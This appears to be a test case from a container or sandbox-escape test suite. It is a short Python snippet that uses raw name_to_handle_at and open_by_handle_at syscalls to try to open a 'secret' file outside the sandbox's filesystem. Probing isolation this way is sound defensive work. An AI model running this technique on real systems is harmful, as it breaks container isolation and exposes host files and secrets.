# plain: any
# process: held
# namespace: held
from escape import *
handle = ctypes.create_string_buffer(136)
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
mount = ctypes.c_int()
syscall(303, 264, -100, (OUTSIDE + "/secret").encode(), handle, ctypes.byref(mount), 0)
attempt(lambda: syscall(304, 265, os.open("/", os.O_RDONLY | os.O_DIRECTORY) if os.access("/", os.R_OK) else -100, handle, 0))
